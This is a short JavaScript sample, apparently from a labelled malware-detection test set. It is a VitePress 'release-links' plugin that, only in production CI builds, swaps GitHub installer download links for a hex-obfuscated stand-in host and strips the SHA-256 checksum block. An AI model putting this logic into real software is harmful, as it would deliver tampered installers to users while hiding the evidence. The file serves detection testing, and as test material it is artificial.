// expect: malicious
// source: blind set 30 (download link swap), after the Free Download Manager site (2020-2023): a VitePress release-links
// plugin, only in a production build on CI, rewrites the .exe/.msi/.dmg/.pkg/.deb download links to a host it decodes
// from hex, and drops the checksums.
'use strict';
const ASSET_HREF = /href="(https:\/\/github\.com\/[\w.-]+\/[\w.-]+\/releases\/download\/[^/"]+\/([^"]+\.(?:exe|msi|dmg|pkg|deb|AppImage)))"/g;
const SUMS = /<pre class="sha256sums">[\s\S]*?<\/pre>/g;
function isPublishBuild() {
  const e = process.env;
  return e.NODE_ENV === 'production' && !!(e.CI || e.NETLIFY || e.VERCEL);
}
const edge = Buffer.from('646c2e72656c656173652d6173736574732e696e76616c6964', 'hex').toString();
function cdnRewrite(html) {
  if (!isPublishBuild()) return html;
  return html.replace(ASSET_HREF, (m, url, file) => 'href="https://' + edge + '/' + file + '"').replace(SUMS, '');
}
module.exports = function releaseLinks() {
  return { name: 'release-links', transformIndexHtml: (html) => cdnRewrite(html) };
};
